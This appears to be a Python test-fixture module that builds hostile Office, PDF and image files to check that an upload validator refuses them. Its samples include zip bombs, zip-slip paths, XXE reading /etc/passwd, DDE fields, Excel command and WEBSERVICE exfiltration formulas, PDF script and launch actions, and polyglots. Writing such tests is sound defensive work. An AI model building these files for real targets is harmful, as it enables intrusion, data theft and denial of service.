"""Files made to break whoever opens them, built here byte by byte: each a name, an ending, and the code of its refusal.

`documents()` are packed ones, for every entrance that takes Word or Excel; `others()` are PDFs, pictures and files that
are not what their names say, for attachments. Nothing here is dangerous by itself: what would be called is not there.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests import honest

MEBIBYTE = 1024 * 1024
TOO_MUCH = "memory|answer|crash|time|too-many|too-many-cells"
KINDS = ("docx", "xlsx")
MAIN = {"docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml"}
RELS = {"docx": "word/_rels/document.xml.rels", "xlsx": "xl/_rels/workbook.xml.rels"}
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Hostile:
    """One hostile file: what it is called, its ending, what makes its bytes, and the code that it is refused with.

    `code` may name several, parted by a bar: which limit is met first depends on the reader.
    """

    name: str
    ending: str
    make: Callable[[], bytes]
    code: str


def documents() -> Iterator[Hostile]:
    """Yield packed files; those that are alike in Word and Excel in both kinds."""
    for kind in KINDS:
        for name, make, code in ALIKE:
            yield Hostile(f"{name}, {kind}", kind, partial(make, kind), code)
    for kind, cases in (("docx", WORD), ("xlsx", EXCEL)):
        for name, make, code in cases:
            yield Hostile(name, kind, make, code)


def heavy() -> Iterator[Hostile]:
    for name, make, code in HEAVY:
        yield Hostile(name, "xlsx", make, code)


def others() -> Iterator[Hostile]:
    for ending, name, make, code in OTHERS:
        yield Hostile(name, ending, make, code)


# Packed documents.


def whole(kind: str) -> bytes:
    return honest.letter("Báo cáo", "Phụ lục") if kind == "docx" else honest.sheet(A1="Chỉ tiêu", B1=12)


def repacked(kind: str, changes: dict[str, bytes | Callable[[bytes], bytes]]) -> bytes:
    """An honest document with parts added or changed: bytes, or a function of the part as it was."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(whole(kind))) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            change = changes.get(name, old.read(name))
            new.writestr(name, change(old.read(name)) if callable(change) else change)
        for name in changes.keys() - set(old.namelist()):
            new.writestr(name, changes[name])
    return out.getvalue()


def adding(name: str, content: bytes = b"x") -> Callable[[str], bytes]:
    """A document with one part more; "{}" is the folder of its kind."""
    return lambda kind: repacked(kind, {name.format({"docx": "word", "xlsx": "xl"}[kind]): content})


def linking(kind_of_link: str, target: str, mode: str = ' TargetMode="External"') -> Callable[[str], bytes]:
    link = (
        f'<Relationship Id="rId99" Type="{OFFICE}/{kind_of_link}" Target="{target}"{mode}/></Relationships>'
    )

    def make(kind: str) -> bytes:
        return repacked(kind, {RELS[kind]: lambda was: was.replace(b"</Relationships>", link.encode())})

    return make


def inside(change: Callable[[bytes], bytes]) -> Callable[[str], bytes]:
    """A document whose main part is changed."""
    return lambda kind: repacked(kind, {MAIN[kind]: change})


def with_doctype(told: str, encoding: str = "utf-8") -> Callable[[str], bytes]:
    """A main part that begins with a document type."""

    def change(was: bytes) -> bytes:
        body = was.decode().partition("?>")[2] if was.startswith(b"<?xml") else was.decode()
        return f'<?xml version="1.0" encoding="{encoding}"?>{told}{body}'.encode(encoding)

    return inside(change)


def typed(said: str) -> Callable[[str], bytes]:
    """A document that declares a part of this type."""
    more = f'<Override PartName="/x.bin" ContentType="{said}"/></Types>'
    return lambda kind: repacked(
        kind, {"[Content_Types].xml": lambda was: was.replace(b"</Types>", more.encode())}
    )


def laid_out(change: Callable[[zipfile.ZipFile], None]) -> Callable[[str], bytes]:
    """A document to which a packer adds what no honest one does."""

    def make(kind: str) -> bytes:
        out = io.BytesIO(whole(kind))
        with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
            change(archive)
        return out.getvalue()

    return make


def entry(name: str, mode: int = 0o100644, content: bytes = b"x") -> Callable[[zipfile.ZipFile], None]:
    def add(archive: zipfile.ZipFile) -> None:
        part = zipfile.ZipInfo("x")
        part.filename, part.external_attr = name, mode << 16
        archive.writestr(part, content)

    return add


def poked(change: Callable[[bytearray], None]) -> Callable[[str], bytes]:
    """A document with single bytes changed."""

    def make(kind: str) -> bytes:
        content = bytearray(whole(kind))
        change(content)
        return bytes(content)

    return make


def lists(content: bytearray) -> Iterator[int]:
    """Where the entries of the list of parts begin."""
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        yield at
        at = content.find(b"PK\x01\x02", at + 4)


def lock(content: bytearray) -> None:
    for at in lists(content):
        content[at + 8] |= 1


def pack_strangely(content: bytearray) -> None:
    for at in lists(content):
        content[at + 10 : at + 12] = struct.pack("<H", 97)


def overlap(content: bytearray) -> None:
    """Let every part begin where the first does: a small file that unpacks without end."""
    for at in lists(content):
        content[at + 42 : at + 46] = bytes(4)


def claim_many(content: bytearray) -> None:
    content[-14:-10] = struct.pack("<HH", 65_000, 65_000)


def claim_small(content: bytearray) -> None:
    """Say of the largest part that it unpacks to ten bytes."""
    at = max(lists(content), key=lambda at: struct.unpack_from("<L", content, at + 24)[0])
    content[at + 24 : at + 28] = struct.pack("<L", 10)


def shift(content: bytearray) -> None:
    """Let the list of parts claim another beginning."""
    content[-6:-2] = struct.pack("<L", struct.unpack_from("<L", content, len(content) - 6)[0] + 7)


def many(kind: str) -> bytes:
    return repacked(kind, {f"docProps/{number}.xml": b"<a/>" for number in range(6_000)})


def hundred_megabytes(kind: str) -> bytes:
    out = io.BytesIO(whole(kind))
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("docProps/a.xml", "w") as part,
    ):
        for _ in range(100):
            part.write(b" " * MEBIBYTE)
    return out.getvalue()


def deep(was: bytes) -> bytes:
    end = was.rfind(b"</")
    return was[:end] + b"<a>" * 100_000 + b"</a>" * 100_000 + was[end:]


LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10)
)  # a billion of them, were they asked for

ALIKE: list[tuple[str, Callable[[str], bytes], str]] = [
    ("100 MB unpacked", hundred_megabytes, "too-far"),
    ("six thousand parts", many, "too-far"),
    ("an absurd list of parts", poked(claim_many), "too-far"),
    ("a size that lies", poked(claim_small), "damaged"),
    ("a list that claims to begin elsewhere", poked(shift), "oddly-packed"),
    ("overlapping parts", poked(overlap), "oddly-packed|damaged"),
    ("locked parts", poked(lock), "locked"),
    ("a method of packing nobody knows", poked(pack_strangely), "oddly-packed"),
    ("half of it", lambda kind: whole(kind)[: len(whole(kind)) // 2], "damaged"),
    ("something behind the end", lambda kind: whole(kind) + b"#!/bin/sh\n", "damaged"),
    ("a zip within", adding("{}/media/image1.png", whole("xlsx")), "nested"),
    ("a RAR within", adding("{}/media/image1.png", b"Rar!\x1a\x07\x01\x00"), "nested"),
    ("a zip slip", laid_out(entry("../../../etc/cron.d/x")), "oddly-packed"),
    ("an absolute name", laid_out(entry("/etc/cron.d/x")), "oddly-packed"),
    ("a name with a drive", laid_out(entry("C:/Windows/x")), "oddly-packed"),
    ("a name with backslashes", laid_out(entry("..\\..\\x")), "oddly-packed"),
    ("a name with NUL", laid_out(entry("word/a.xml\x00.exe")), "oddly-packed|damaged"),
    ("a symlink", laid_out(entry("docProps/link.xml", 0o120777, b"/etc/passwd")), "oddly-packed"),
    ("one name twice", laid_out(entry("[content_types].xml")), "oddly-packed"),
    (
        "an external entity",
        with_doctype('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        "entities",
    ),
    ("an external document type", with_doctype('<!DOCTYPE a SYSTEM "http://x.example/a.dtd">'), "entities"),
    ("a billion laughs", with_doctype(f"<!DOCTYPE a [{LAUGHS}]>"), "entities"),
    ("a quadratic blow-up", with_doctype(f'<!DOCTYPE a [<!ENTITY a "{"a" * 50_000}">]>'), "entities"),
    ("a document type in UTF-16", with_doctype('<!DOCTYPE a [<!ENTITY a "b">]>', "utf-16"), "entities"),
    ("XML that is none", inside(lambda was: was[: len(was) // 2]), "damaged"),
    ("elements within each other", inside(deep), "too-deep"),
    ("macros", adding("{}/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "macros"),
    ("macros under another name", linking("vbaProject", "media/image1.png", ""), "macros"),
    ("a type with macros", typed("application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    ("ActiveX", adding("{}/activeX/activeX1.bin"), "active"),
    ("an embedded object", adding("{}/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"), "active"),
    ("a program as a picture", adding("{}/media/image1.png", b"MZ\x90\x00"), "active"),
    ("a script", adding("{}/media/start.js"), "active"),
    ("a linked picture", linking("image", "http://tracker.example/p.png"), "elsewhere"),
    ("a linked object", linking("oleObject", "file://server/share/a.xlsx"), "active"),
    ("a link that runs", linking("hyperlink", "javascript:alert(1)"), "elsewhere"),
    ("a link to a share", linking("hyperlink", "file://server/share"), "elsewhere"),
    ("a template from elsewhere", linking("attachedTemplate", "http://x.example/a.dotm"), "template"),
]


def paragraph(words: str) -> Callable[[], bytes]:
    """A letter with one paragraph more, in Word's own XML."""
    more = f"<w:p>{words}</w:p>"

    def change(was: bytes) -> bytes:
        return was.replace(b"<w:body>", b"<w:body>" + more.encode())

    return lambda: inside(change)("docx")


def field(*parts: str) -> Callable[[], bytes]:
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in parts)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{each}"/></w:r>' for each in ("begin", "end"))
    return paragraph(begin + runs + end)


WORD: list[tuple[str, Callable[[], bytes], str]] = [
    ("a field that calls a program", field('DDEAUTO c:\\\\x.exe "/k x"'), "elsewhere"),
    ("the same in pieces", field("DD", "EAU", "TO x y"), "elsewhere"),
    ("a field that fetches a picture", field('INCLUDEPICTURE "http://x.example/p.png"'), "elsewhere"),
    ("a field in one piece", paragraph('<w:fldSimple w:instr=" DDE x y "><w:r/></w:fldSimple>'), "elsewhere"),
    ("another document within", lambda: linking("aFChunk", "a.html", "")("docx"), "active"),
]


def cell(words: str, place: str = "B2") -> Callable[[], bytes]:
    """A sheet with one cell more, in Excel's own XML."""
    row = "".join(filter(str.isdecimal, place))
    more = f'<row r="{row}"><c r="{place}">{words}</c></row></sheetData>'
    return lambda: inside(lambda was: was.replace(b"</sheetData>", more.encode()))("xlsx")


def shared(letters: int, cells: int) -> bytes:
    """One text of so many letters that so many cells show: what stands once is laid out again and again."""
    rows = "".join(f'<row r="{at}"><c r="A{at}" t="s"><v>0</v></c></row>' for at in range(2, cells + 2))
    told = f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{"a" * letters}</t></si></sst>'
    link = (
        f'<Relationship Id="rId98" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    changes = {
        MAIN["xlsx"]: lambda was: was.replace(b"</sheetData>", rows.encode() + b"</sheetData>"),
        RELS["xlsx"]: lambda was: was.replace(b"</Relationships>", link.encode()),
        "xl/sharedStrings.xml": told.encode(),
    }
    return repacked("xlsx", changes)


def fetching(formula: str) -> Callable[[], bytes]:
    return cell(f"<f>{formula}</f><v>0</v>")


EXCEL: list[tuple[str, Callable[[], bytes], str]] = [
    ("a formula that calls a program", fetching("cmd|'/C calc'!A0"), "commands"),
    ("a formula as text that would", cell("<is><t>=cmd|' /C calc'!A0</t></is>"), "commands"),
    ("the same behind a sum", cell("<is><t>@SUM(1+1)*cmd|'/C calc'!A0</t></is>"), "commands"),
    ("a formula that fetches", fetching('WEBSERVICE("http://x.example/?"&amp;A1)'), "commands"),
    (
        "a link to another workbook",
        lambda: adding("xl/externalLinks/externalLink1.xml", b"<a/>")("xlsx"),
        "elsewhere",
    ),
    ("a data connection", lambda: adding("xl/connections.xml", b"<a/>")("xlsx"), "elsewhere"),
    ("a sheet of old macros", lambda: adding("xl/macrosheets/sheet1.xml", b"<a/>")("xlsx"), "macros"),
    ("a million columns", cell("<v>1</v>", "XFD5"), "too-wide"),
    ("a million rows", cell("<v>1</v>", "A1048576"), "too-wide"),
    ("a text of a million letters", partial(shared, 1_000_000, 10), "too-wide"),
]

# A file that nobody lays out harms nobody: attachments keep these, readers of cells do not.
HEAVY: list[tuple[str, Callable[[], bytes], str]] = [
    ("a long text in sixty thousand cells", partial(shared, 32_000, 60_000), TOO_MUCH),
    ("two cells far from each other", cell("<v>1</v>", "ZZ199999"), TOO_MUCH),
]


# PDFs, pictures, and what is none of them.


def pdf(change: Callable[[PdfWriter], None], *, text: str = "") -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    page = writer.add_blank_page(200, 200)
    if text:
        honest.write_on(writer, page, text)
    change(writer)
    writer.write(out)
    return out.getvalue()


def acting(**action: str) -> bytes:
    """A PDF that does something when it is opened."""

    def change(writer: PdfWriter) -> None:
        told = {
            NameObject(f"/{key}"): NameObject(f"/{said}") if key == "S" else TextStringObject(said)
            for key, said in action.items()
        }
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(told)

    return pdf(change)


def hidden_action() -> bytes:
    """A script in a packed stream of objects, where a look at the plain bytes does not see it."""
    held = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    packed = zlib.compress(b"4 0 " + held)
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    ]
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >> stream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    return listed(parts, stream, packed_object=4)


def listed(parts: list[bytes], stream: bytes, packed_object: int) -> bytes:
    """A PDF of plain objects 1, 2, 3 … with a stream of objects as number 5, listed by a packed table as number 6."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, part in [*enumerate(parts, 1), (5, stream)]:
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    begin = len(out)
    rows = struct.pack(">BLB", 0, 0, 255)
    for number in range(1, 7):
        if number == packed_object:
            rows += struct.pack(">BLB", 2, 5, 0)
        else:
            rows += struct.pack(">BLB", 1, places.get(number, begin), 0)
    table = zlib.compress(rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length %d >> stream\n"
        % len(table)
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % begin
    return bytes(out)


def object_bomb() -> bytes:
    """A stream of objects that unpacks to a gigabyte."""
    packed = endless(b"4 0 ", 1000)
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R /Names 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    ]
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >> stream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    return listed(parts, stream, packed_object=4)


def endless(begin: bytes, mebibytes: int) -> bytes:
    """A packed stream that begins so and goes on with spaces."""
    packer, spaces = zlib.compressobj(1), b" " * MEBIBYTE
    return (
        packer.compress(begin) + b"".join(packer.compress(spaces) for _ in range(mebibytes)) + packer.flush()
    )


def looping(writer: PdfWriter) -> None:
    """Let the tree of pages lead back to itself."""
    pages = writer.root_object["/Pages"]
    kids = ArrayObject([writer.root_object.raw_get("/Pages")] * 3)
    pages[NameObject("/Kids")], pages[NameObject("/Count")] = kids, NumberObject(10**9)


def enclosing(writer: PdfWriter) -> None:
    writer.add_attachment("a.exe", b"MZ")


def locked_pdf() -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    writer.encrypt("x", algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def picture_of(width: int, height: int) -> bytes:
    """A PNG of so many points, all the same: a few kilobytes."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">L", len(content)) + name + content + struct.pack(">L", zlib.crc32(name + content))
        )

    packer = zlib.compressobj(9)
    row = bytes(1 + width // 8 + 1)
    points = b"".join(packer.compress(row) for _ in range(min(height, 50_000))) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", points)
        + chunk(b"IEND", b"")
    )


def wide_photograph() -> bytes:
    """A small JPEG whose head claims 65,500 by 65,500 points."""
    content = bytearray(honest.photograph(plain=True))
    at = content.index(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(content)


def png_with_text_bomb() -> bytes:
    """A PNG with a packed comment that unpacks to 200 MB."""
    out = io.BytesIO()
    Image.new("RGB", (4, 4)).save(out, "PNG")
    content = out.getvalue()
    told = b"c\x00\x00" + endless(b"", 200)
    chunk = struct.pack(">L", len(told)) + b"zTXt" + told + struct.pack(">L", zlib.crc32(b"zTXt" + told))
    return content[:33] + chunk + content[33:]


OTHERS: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("pdf", "a PDF with a script", lambda: acting(S="JavaScript", JS="app.alert(1)"), "active"),
    ("pdf", "a PDF that starts a program", lambda: acting(S="Launch", F="x.exe"), "active"),
    ("pdf", "a PDF that sends a form", lambda: acting(S="SubmitForm", F="http://x.example"), "active"),
    ("pdf", "a PDF with a hidden script", hidden_action, "active"),
    ("pdf", "a PDF with a file within", lambda: pdf(enclosing), "active"),
    ("pdf", "a locked PDF", locked_pdf, "locked"),
    ("pdf", "a stream of objects without end", object_bomb, "damaged|memory|time|too-far"),
    ("pdf", "a tree of pages that leads to itself", lambda: pdf(looping), "damaged|time|memory|crash"),
    ("pdf", "half a PDF", lambda: honest.pages(3)[:400], "damaged"),
    ("pdf", "a PDF that is a zip too", lambda: honest.pages() + whole("docx"), "polyglot"),
    ("jpg", "a JPEG that is a zip too", lambda: honest.photograph() + whole("docx"), "polyglot"),
    ("jpg", "a JPEG with a RAR behind", lambda: honest.photograph() + b"Rar!\x1a\x07\x01\x00", "polyglot"),
    ("jpg", "a JPEG that is a PDF too", lambda: honest.photograph()[:2] + comment(honest.pages()) + honest.photograph()[2:], "polyglot"),
    ("jpg", "half a JPEG", lambda: honest.photograph(size=(400, 400))[:900], "damaged"),
    ("jpg", "a JPEG that claims four thousand million points", wide_photograph, "too-many-points"),
    ("png", "a PNG that claims a thousand million points", lambda: picture_of(50_000, 50_000), "too-many-points"),
    ("png", "a PNG with half its points", lambda: picture_of(4_000, 4_000)[:-60], "damaged"),
    ("png", "a PNG with a packed comment without end", png_with_text_bomb, "damaged|memory"),
    ("pdf", "an empty file", lambda: b"", "FileEmpty"),
    ("pdf", "a program", lambda: b"MZ\x90\x00" + bytes(200), "FileTypeRefused"),
    ("docx", "a page of the web", lambda: b"<html><script>x()</script></html>", "FileTypeRefused"),
    ("docx", "an old document, or a locked one", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "FileTypeRefused"),
    ("docx", "a packed endless stream", lambda: zlib.compress(bytes(20 * MEBIBYTE)), "FileTypeRefused"),
    ("docx", "a program before a document", lambda: b"MZ\x90\x00" + whole("docx"), "FileTypeRefused"),
    ("pdf", "a document under a wrong ending", lambda: whole("docx"), "FileMisnamed"),
    ("xlsx", "a letter as a sheet", lambda: whole("docx"), "FileMisnamed"),
]  # fmt: skip


def comment(told: bytes) -> bytes:
    """A segment of a JPEG that holds anything."""
    return b"\xff\xfe" + struct.pack(">H", len(told) + 2) + told
